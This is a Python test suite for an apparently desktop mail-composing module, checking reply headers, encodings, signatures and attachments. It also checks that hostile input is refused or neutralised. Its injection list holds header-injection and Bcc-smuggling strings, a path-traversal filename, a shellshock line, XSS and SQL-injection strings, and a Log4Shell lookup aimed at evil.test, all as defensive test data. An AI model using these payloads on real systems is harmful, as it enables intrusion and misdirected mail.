"""A draft becomes exactly the mail that was meant, or none."""

import email
import email.header
import email.policy
import email.utils
import json
import re
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from desktop.connectors.mail.compose import addresses, prepare
from desktop.connectors.mail.letter import signed
from desktop.connectors.mail.parts import attachment_bytes
from desktop.connectors.mail.settings import MailSettings
from desktop.domain.draft import Enclosure, Parent, Plan
from desktop.domain.errors import Refused
from tests.mail.kit import HOSTILE, NOW, account, draft, parent

ID = "5b0e54f2-0000-4000-8000-0123456789ab"
SETTINGS = {"address": "owner@shop.test", "imap_host": "h", "aliases": "orders@shop.test; jobs@shop.test"}
USUAL = ["Date", "From", "To", "Subject", "Message-ID", "In-Reply-To", "References"]
USUAL += ["X-Shopbell-Id", "MIME-Version", "Content-Type", "Content-Transfer-Encoding"]


def planned(asked: Parent | None, settings: dict[str, str] | None = None, **changes: object) -> Plan:
    return prepare(MailSettings.of(account(SETTINGS | (settings or {}))), ID, draft(**changes), asked, NOW)


def read(plan: Plan) -> email.message.EmailMessage:
    return email.message_from_bytes(plan.payload, policy=email.policy.default)  # type: ignore[return-value]


def test_a_reply_names_what_it_answers() -> None:
    plan = planned(parent())
    message = read(plan)
    assert message.keys() == USUAL
    assert message["To"] == "customer@example.test"
    assert message["From"] == "owner@shop.test"
    assert message["Subject"] == "Re: About my order"
    assert message["Message-ID"] == f"<{ID}@shop.test>" == plan.remote_key
    assert message["In-Reply-To"] == "<7@example.test>"
    assert message["References"] == "<1@example.test> <7@example.test>"
    assert email.utils.parsedate_to_datetime(message["Date"]) == NOW
    assert (plan.sender, plan.recipients) == ("owner@shop.test", ("customer@example.test",))
    assert b"\n" not in plan.payload.replace(b"\r\n", b"")


def test_the_same_draft_gives_the_same_bytes() -> None:
    assert planned(parent()) == planned(parent())


def test_the_address_the_customer_wrote_to_answers() -> None:
    assert planned(parent(sent_to=("x@else.test", "Orders@shop.test"))).sender == "Orders@shop.test"
    assert planned(parent(sent_to=("owner+kettle@shop.test",))).sender == "owner+kettle@shop.test"
    assert planned(parent(sent_to=("stranger@shop.test",))).sender == "owner@shop.test"


def test_reply_to_is_respected_and_the_owner_decides() -> None:
    assert planned(parent(reply_to=("desk@example.test",))).recipients == ("desk@example.test",)
    plan = planned(parent(reply_to=("desk@example.test",)), to=("a@b.test",), cc=("c@d.test", "a@b.test"))
    assert plan.recipients == ("a@b.test", "c@d.test")
    assert plan.summary == "a@b.test, c@d.test"


def test_writing_again_after_our_own_mail_goes_to_the_customer() -> None:
    ours = parent(author_key="owner@shop.test", author_handle="owner@shop.test", sent_to=("customer@example.test",))
    assert planned(ours).recipients == ("customer@example.test",)


def test_a_copy_to_ourselves_is_in_the_envelope_only() -> None:
    plan = planned(parent(), {"copy_to_self": "yes"})
    assert plan.recipients == ("customer@example.test", "owner@shop.test")
    assert b"Bcc" not in plan.payload


def test_long_threads_keep_the_first_and_the_last() -> None:
    earlier = tuple(f"<{n}@example.test>" for n in range(1, 2001))
    chain = read(planned(parent(parent_ids=earlier)))["References"].split()
    assert len(chain) == 21
    assert (chain[0], chain[-1]) == ("<1@example.test>", "<7@example.test>")


def test_a_name_and_a_text_of_any_script_arrive_as_written() -> None:
    text = "Liebe Zoë,\n\nгрусть — 喜び 🎉\n.\nFrom here\n" + "x" * 2000
    plan = planned(parent(subject="Größe & 喜び " * 8), {"sender_name": "Bäckerei „Hazel & Rye“"}, text=text)
    message = read(plan)
    assert message.get_content().replace("\r\n", "\n") == text + "\n"
    assert message["From"].addresses[0].display_name == "Bäckerei „Hazel & Rye“"
    assert message["Subject"].startswith("Re: Größe & 喜び")
    assert max(map(len, plan.payload.split(b"\r\n"))) < 999
    assert plan.payload.isascii()


@pytest.mark.parametrize("text", ["From From the start\n", "é" + "y" * 69 + " \nHazel\n", "From \nFrom From From x"])
def test_no_line_of_the_words_is_one_that_mailboxes_change_or_longer_than_the_standard_allows(text: str) -> None:
    plan = planned(parent(), text=text)
    lines = plan.payload.partition(b"\r\n\r\n")[2].split(b"\r\n")
    assert not [line for line in lines if line.startswith(b"From ") or len(line) > 76 or line.endswith((b" ", b"\t"))]
    assert said(read(plan)).rstrip("\n") == text.rstrip("\n")


def said(part: object) -> str:
    return str(part.get_content()).replace("\r\n", "\n")  # type: ignore[attr-defined]


def test_what_the_owner_wrote_is_all_that_is_said() -> None:
    assert said(read(planned(parent(quote="Where is it?")))) == "It left the shop this morning.\n"


def test_a_signature_stands_below_the_words_and_above_what_is_quoted_and_once() -> None:
    signature = {"signature": "Hazel \\nHazel & Rye Bakery"}
    below = "-- \nHazel\nHazel & Rye Bakery\n"
    assert said(read(planned(parent(), signature, text="Gladly."))) == f"Gladly.\n\n{below}"
    asked = "Gladly.\n\nOn 3 May 2026 at 10:04, Marta wrote:\n> Where is it?\n> I wait.\n"
    told = said(read(planned(parent(), signature, text=asked)))
    assert told == f"Gladly.\n\n{below}\nOn 3 May 2026 at 10:04, Marta wrote:\n> Where is it?\n> I wait.\n"
    mine = "Gladly.\n\n-- \nYours, H.\n"
    assert said(read(planned(parent(), signature, text=mine))) == mine


@pytest.mark.parametrize("text", ["Yes" + "\n" * 20_000 + "!", "\n" + "> x\n" * 10_000 + " \n" * 10_000 + "Yes"])
def test_a_signature_finds_its_place_at_once_whatever_stands_there(text: str) -> None:
    begun = time.process_time()
    assert signed(text, "Hazel").endswith("\n\n-- \nHazel\n")
    assert time.process_time() - begun < 0.5


def files(*named: str, data: bytes = b"%PDF-1.7 \x00\xff") -> tuple[Enclosure, ...]:
    return tuple(Enclosure(name=name, media_type="application/pdf", data=data) for name in named)


@pytest.mark.parametrize(
    ("name", "arrives"),
    [
        ("price list.pdf", "price list.pdf"),
        ("Brötchen – Preise.pdf", "Brötchen – Preise.pdf"),
        ("価格.pdf", "価格.pdf"),
        ('the "best".pdf', "the _best_.pdf"),
        ("../../etc/passwd", "passwd.pdf"),
        ("a\r\nBcc: evil@x.example.pdf", "a Bcc_ evil@x.example.pdf"),
        ("=?utf-8?b?QmNj?=.pdf", "=_utf-8_b_QmNj_=.pdf"),
        ("x" * 400 + ".pdf", "x" * 146 + ".pdf"),
        ("", "attachment.pdf"),
        ("a;b=c'd%20.pdf", "a;b=c'd%20.pdf"),
    ],
)
def test_a_file_arrives_with_its_bytes_under_a_name_any_system_takes(name: str, arrives: str) -> None:
    message = read(planned(parent(), text="Here it is – gladly.", enclosures=files(name)))
    assert message.get_content_type() == "multipart/mixed"
    words, file = message.iter_parts()
    assert said(words) == "Here it is – gladly.\n"
    assert file.get_filename() == arrives
    assert file.get_content_disposition() == "attachment"
    assert file.get_content() == b"%PDF-1.7 \x00\xff"
    assert message["Bcc"] is None


def test_files_of_one_name_and_of_odd_kinds_travel() -> None:
    odd = [
        Enclosure(name="cake.png", media_type="image/png", data=b"1"),
        Enclosure(name="cake.png", media_type="Image/PNG; x=y\r\nBcc: a@b.c", data=b"2"),
        Enclosure(name="letter.eml", media_type="message/rfc822", data=b"Subject: x\r\n\r\n--=_y\r\n"),
        Enclosure(name="notes.txt", media_type="text/plain", data="für dich\n".encode()),
    ]
    plan = planned(parent(), enclosures=tuple(odd))
    assert plan == planned(parent(), enclosures=tuple(odd))
    assert max(map(len, plan.payload.split(b"\r\n"))) < 999
    parts = list(read(plan).iter_attachments())
    assert [part.get_filename() for part in parts] == ["cake.png", "cake 2.png", "letter.eml", "notes.txt"]
    assert [part.get_content_type() for part in parts] == [
        "image/png", "application/octet-stream", "application/octet-stream", "text/plain"
    ]  # fmt: skip
    assert [part.get_payload(decode=True) for part in parts] == [file.data for file in odd]
    assert [attachment_bytes(plan.payload, str(n)) for n in range(2, 6)] == [file.data for file in odd]


def test_a_line_between_parts_cannot_be_written_into_the_words() -> None:
    seen = planned(parent(), enclosures=files("a.pdf")).payload
    line = re.search(rb"--=_[0-9a-f]+", seen)
    assert line is not None
    trick = f"So\n{line[0].decode()}\nContent-Type: text/html\n\n<b>x</b>\n{line[0].decode()}--\n"
    message = read(planned(parent(), text=trick, enclosures=files("a.pdf")))
    words, file = message.iter_parts()
    assert said(words) == trick
    assert file.get_filename() == "a.pdf"


def test_a_mail_of_twenty_megabytes_is_written_quickly() -> None:
    began = time.process_time()
    plan = planned(parent(), enclosures=files("film.mp4", data=bytes(range(256)) * 75_000))
    assert time.process_time() - began < 3
    assert len(plan.payload) < 19_200_000 * 1.37


@pytest.mark.parametrize(
    ("changes", "words"),
    [
        ({"text": " \n "}, "nothing in this reply"),
        ({"to": ("nobody",)}, "nobody"),
        ({"to": ("a@b.test\r\nBcc: e@evil.test",)}, "not an address"),
        ({"to": ("a@b.test>\r\nRCPT TO:<e@evil.test",)}, "not an address"),
        ({"to": ("a@b.test, e@evil.test",)}, "not an address"),
        ({"to": ("a..b@b.test",)}, "not an address"),
        ({"to": ('"a b"@b.test',)}, "not an address"),
        ({"cc": ("=?utf-8?q?e=40evil.test?=@b.test ",)}, ""),
    ],
)
def test_what_cannot_be_sent_is_refused_with_a_sentence(changes: dict[str, object], words: str) -> None:
    if not words:
        assert planned(parent(), **changes).recipients[1].endswith("@b.test")
        return
    with pytest.raises(Refused, match=words):
        planned(parent(), **changes)


def test_nobody_to_answer_is_refused() -> None:
    with pytest.raises(Refused, match="Nobody"):
        planned(None)


INJECTIONS = [
    "é x=?UTF-8?Q?=0A?=Bcc: e@evil.test",
    "=?utf-8?b?DQpCY2M6IGVAZXZpbC50ZXN0?=",
    "=?utf-8?q?=0D=0ABcc=3A_e=40evil=2Etest?=",
    "a\r\nBcc: e@evil.test",
    "a\nBcc: e@evil.test",
    "a\rBcc: e@evil.test",
    "a\r\n\r\nbody",
    "a\u2028Bcc: e@evil.test",
    "a\u2029Bcc: e@evil.test",
    "a\x85Bcc: e@evil.test",
    "a\x0bBcc: e@evil.test\x0c",
    "a\x00Bcc: e@evil.test",
    "a\x1bBcc\x7f",
    "嘊嘍Bcc: e@evil.test",
    "\u560a\u560dBcc: e@evil.test",
    "a" * 5000,
    "é" * 5000,
    "\ud800 lone",
    "x =? y ?= z",
    "=?=?utf-8?q?=?=x",
    "\t\tindented",
    '"quoted" <e@evil.test>',
    "e@evil.test, f@evil.test",
    "\u202eReversed",
    "\ufeffBOM",
    "👩‍👩‍👧‍👦" * 60,
    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!͖̬̰̙̗̿̋ͥͥ̂ͣ̐́́͜͞",
    "",
    " ",
    "%0d%0aBcc:e@evil.test",
    "\\r\\nBcc: e@evil.test",
    "Ω≈ç√∫˜µ≤≥÷",
    "() { 0; }; touch /tmp/blns",
    "<script>alert(1)</script>",
    "'; DROP TABLE message; --",
    "${jndi:ldap://evil.test/a}",
    "Re: " * 400,
]


def hostile_strings() -> list[str]:
    extra: list[str] = []
    for file in (HOSTILE / "unicode").rglob("*.json"):
        extra += [each for each in json.loads(file.read_text(encoding="utf-8")) if isinstance(each, str)]
    for file in (HOSTILE / "unicode").rglob("*.txt"):
        extra += [line for line in file.read_text(encoding="utf-8", errors="replace").splitlines() if line[:1] != "#"]
    return INJECTIONS + extra


def recipients_of(message: email.message.Message) -> list[str]:
    values = [str(value) for name in ("To", "Cc", "Bcc", "Resent-To") for value in message.get_all(name, [])]
    return [address for _, address in email.utils.getaddresses(values)]


@pytest.mark.parametrize(
    "place", ["subject", "parent-subject", "name", "own-id", "references", "quote", "text", "sender-name", "to", "cc"]
)
def test_no_words_from_outside_become_headers_or_recipients(place: str) -> None:
    for words in hostile_strings():
        asked, changes, settings = parent(), {}, {}
        if place == "subject":
            changes = {"subject": words}
        elif place in ("to", "cc"):
            changes = {place: (words, f"customer@example.test{words}", f"{words}@example.test")}
        elif place == "text":
            changes = {"text": words + "."}
        elif place == "sender-name":
            settings = {"sender_name": words}
        else:
            given = {"parent-subject": "subject", "name": "author_name", "own-id": "own_id", "quote": "quote"}
            asked = (
                parent(parent_ids=(words, f"<{words}>")) if place == "references" else parent(**{given[place]: words})
            )
        try:
            plan = planned(asked, settings, **changes)
        except Refused:
            continue
        for policy in (email.policy.compat32, email.policy.default):
            message = email.message_from_bytes(plan.payload, policy=policy)
            assert [name for name in message if name not in ("In-Reply-To", "References")] == [
                name for name in USUAL if name not in ("In-Reply-To", "References")
            ], words
            assert recipients_of(message) == ["customer@example.test"], words
            subject = str(email.header.make_header(email.header.decode_header(str(message["Subject"]))))
            assert "\n" not in subject.replace("\r\n ", "").replace("\n ", ""), words
        assert plan.recipients == ("customer@example.test",)


@given(subject=st.text(), name=st.text(), text=st.text(min_size=1), own_id=st.text(), address=st.text())
def test_anything_is_a_safe_mail_or_refused(subject: str, name: str, text: str, own_id: str, address: str) -> None:
    asked = parent(subject=subject, author_name=name, own_id=own_id, quote=text)
    try:
        plan = planned(asked, text=text)
    except Refused:
        pass
    else:
        assert recipients_of(email.message_from_bytes(plan.payload)) == ["customer@example.test"]
    try:
        plan = planned(parent(), to=(address,))
    except Refused:
        return
    assert recipients_of(email.message_from_bytes(plan.payload)) == list(plan.recipients)
    assert len(plan.recipients) == 1


def test_everybody_who_was_written_to_can_be_answered_but_not_ourselves() -> None:
    settings = MailSettings.of(account(SETTINGS))
    asked = parent(
        sent_to=("Owner@shop.test", "orders+cakes@shop.test", "tom@x.test", "CUSTOMER@example.test", "tom@x.test")
    )
    found = addresses(settings, asked)
    assert found.to == ("customer@example.test",)
    assert found.others == ("tom@x.test",)
    assert addresses(settings, None).to == ()


def test_what_stood_where_an_address_should_is_there_to_be_put_right() -> None:
    settings = MailSettings.of(account(SETTINGS))
    broken = parent(author_key="unknown", author_handle="", author_name="Kim <kim@exa mple.test>")
    assert addresses(settings, broken).to == ("kim@exa mple.test",)
    with pytest.raises(Refused, match=r"“kim@exa mple\.test” is not an address"):
        planned(broken)
    assert planned(broken, to=("kim@example.test",)).recipients == ("kim@example.test",)
    nameless = parent(author_key="unknown", author_handle="", author_name="")
    assert addresses(settings, nameless).to == ("unknown",)


def test_capitals_make_no_second_copy() -> None:
    plan = planned(parent(), to=("A@b.test",), cc=("a@B.test", "c@d.test", "C@d.test"))
    assert plan.recipients == ("A@b.test", "c@d.test")
